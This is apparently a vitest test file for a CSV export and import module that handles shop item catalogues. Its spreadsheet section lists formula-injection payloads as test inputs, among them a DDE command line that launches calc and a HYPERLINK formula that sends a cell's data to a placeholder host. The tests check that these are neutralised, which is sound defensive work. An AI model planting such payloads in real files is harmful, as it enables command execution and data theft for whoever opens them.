import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { readCsv, writeCsv } from '../../bots/shared/csv.ts';
import { readItemsCsv, writeItemsCsv } from '../../bots/shared/items-csv.ts';
import type { DeliveryPlan, Item } from '../../src/domain/item.ts';
import { plainItem } from '../../src/domain/item.ts';
import { isRefusal } from '../../src/domain/refusal.ts';

const textOf = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

/** The one cell as a spreadsheet that knows the standard reads it. */
function cellOf(text: string): string {
  const file = textOf(writeCsv('table', ['name'], [[text]]).bytes);
  const { data } = Papa.parse<string[]>(file.slice(1), { newline: '\r\n', delimiter: ',' });
  return data[1]?.[0] ?? '';
}

/** What Excel, LibreOffice and Google Sheets begin to calculate at, after what they skip. */
const calculates = /^[\s\p{Z}\p{C}"]*[=+\-@＝＋－＠]/u;

describe('H-08: a table that somebody opens in a spreadsheet', () => {
  test.each([
    '=cmd|"/c calc"!A1',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u0000=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '\u200B=1+1',
    '"=1+1',
    "'=1+1",
    '＝1+1',
    'a;=1+1',
    'two\n=1+1',
    '=HYPERLINK("http://x.example?"&A1,"click")',
  ])('%j stays words', (text) => {
    expect(cellOf(text)).not.toMatch(calculates);
    expect(cellOf(text)).toMatch(/(^|[;\n])'/);
    for (const piece of cellOf(text).split(/[;\n]/)) expect(piece).not.toMatch(calculates);
  });

  test('whatever somebody is called: nothing calculates, nothing spills into another cell', () => {
    const words = fc.string({ unit: 'binary', maxLength: 30 });
    const marks = fc.array(fc.constantFrom(...'=+-@\t\r\n\0\'",;| a0', '＝', '\u200B', '\uFEFF'), {
      maxLength: 12,
    });
    fc.assert(
      fc.property(
        fc.oneof(
          words,
          marks.map((all) => all.join('')),
        ),
        (text) => {
          const file = textOf(writeCsv('table', ['a', 'b'], [[text, 'end']]).bytes);
          const { data } = Papa.parse<string[]>(file.slice(1), { newline: '\r\n', delimiter: ',' });
          const cell = data[1]?.[0] ?? '';
          // One that parts by semicolons and lines, whatever is quoted, finds nothing to calculate either.
          const pieces = [cell, ...file.slice(1).split(/[;\n]/)];
          expect({
            cells: data.slice(0, 2).map((row) => row.length),
            end: data[1]?.[1],
            formulas: pieces.filter((piece) => calculates.test(piece)),
            controls: /[^\P{Cc}\n]/u.test(cell),
          }).toEqual({ cells: [2, 2], end: 'end', formulas: [], controls: false });
        },
      ),
      { numRuns: 500 },
    );
  });

  test('numbers stay numbers, to the last digit, and Chinese is told to be UTF-8', () => {
    const { name, contentType, bytes } = writeCsv(
      'orders',
      ['a', 'b'],
      [
        ['0.000001', '茶，"綠"'],
        [null, '9'],
      ],
    );
    expect([name, contentType]).toEqual(['orders.csv', 'text/csv']);
    expect(textOf(bytes)).toBe('\uFEFFa,b\r\n0.000001,"茶，""綠"""\r\n,9\r\n');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('a catalogue as a table', () => {
  const item = (slug: string, more: Partial<Item> = {}) =>
    plainItem({
      ...{ id: 'i', communityId: 'c', slug, name: `The ${slug}` },
      price: { hundredths: 30_050n, currency: 'TWD' },
      ...more,
    });

  test('comes back as it went out', () => {
    const plans: DeliveryPlan[] = [
      { kind: 'role', guildId: '123456789012345678', roleId: '987654321098765432', roleName: '' },
      { kind: 'invite', chatId: '-1001234567890', chatTitle: '' },
      { kind: 'text', text: '=SUM(A1)\nsecond, "line"' },
      { kind: 'file', fileId: '8a1c', fileName: '' },
      { kind: 'webhook', url: 'https://shop.example/hook' },
      { kind: 'key' },
      { kind: 'task' },
    ];
    const items = plans.map((plan, index) => item(`a${index}`, { plan, name: `-茶 ${index}` }));
    const full = item('b', {
      stock: 0,
      memberLimit: 1,
      accessDays: 30,
      hidden: true,
      description: "'=x",
      pictureId: 'p',
    });
    const read = readItemsCsv(writeItemsCsv([...items, full]).bytes);
    if (isRefusal(read)) throw new Error(read.refusal);
    expect(read.faults).toEqual([]);
    expect(read.rows.slice(0, -1)).toEqual(
      items.map(({ slug, name, price, hidden, plan }) => ({ slug, name, price, hidden, plan })),
    );
    expect(read.rows.at(-1)).toEqual({
      ...{ slug: 'b', name: 'The b', price: full.price, description: "'=x", pictureId: 'p' },
      ...{ hidden: true, stock: 0, memberLimit: 1, accessDays: 30, plan: { kind: 'task' } },
    });
  });

  test('an empty cell leaves things as they are, none takes a limit away; columns stand in any order', () => {
    const bytes = new TextEncoder().encode(
      'Stock;slug;price;currency\r\n;tea;;\r\nnone;cake;12.5;usd\r\n\r\n',
    );
    expect(readItemsCsv(bytes)).toEqual({
      faults: [],
      rows: [{ slug: 'tea' }, { slug: 'cake', stock: null, price: { hundredths: 1_250n, currency: 'USD' } }],
    });
  });

  test('what is wrong is said by row', () => {
    const lines = [
      'slug,price,currency,stock,hidden,delivery,delivery_to',
      'a,"1,000",TWD,,,,',
      'b,5,EUR,,,,',
      'c,5,TWD,-1,,,',
      'd,5,TWD,,perhaps,,',
      'e,5,TWD,,,role,123',
      'f,5,TWD,,,teleport,',
      ',5,TWD,,,,',
      'g,5,TWD,3,no,key,',
    ];
    const read = readItemsCsv(new TextEncoder().encode(lines.join('\n')));
    if (isRefusal(read)) throw new Error(read.refusal);
    expect(read.faults.map(({ row, refusal }) => [row, refusal.refusal])).toEqual([
      [1, 'price_not_understood'],
      [2, 'price_not_understood'],
      [3, 'item_number_not_usable'],
      [4, 'table_hidden_unknown'],
      [5, 'table_delivery_unknown'],
      [6, 'table_delivery_unknown'],
      [7, 'item_name_not_usable'],
    ]);
    expect(read.rows).toHaveLength(1);
  });

  test.each([
    ['nothing', new Uint8Array(), 'table_not_read'],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe]), 'table_not_read'],
    ['another encoding', Buffer.from('slug,name\r\na,\xb4\xfa', 'latin1'), 'table_not_read'],
    ['no short names', new TextEncoder().encode('name,price\nTea,5'), 'table_not_read'],
    ['a quote that never ends', new TextEncoder().encode('slug,name\na,"Tea\n'), 'table_not_read'],
    ['a column of another table', new TextEncoder().encode('slug,colour\na,red'), 'table_column_unknown'],
  ])('%s is no catalogue', (_, bytes, refusal) => {
    expect(readItemsCsv(bytes)).toMatchObject({ refusal });
  });

  test('a cell of a million line ends takes no longer than another one', () => {
    const bytes = new TextEncoder().encode(`slug,name\na,"${"\n'".repeat(500_000)}"`);
    expect(readItemsCsv(bytes)).toMatchObject({ faults: [] });
  });

  test('whatever comes, reading it never throws', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (text) => {
        const bytes = new TextEncoder().encode(`slug,name\n${text}`);
        expect(() => [readCsv(bytes), readItemsCsv(bytes)]).not.toThrow();
      }),
    );
  });
});
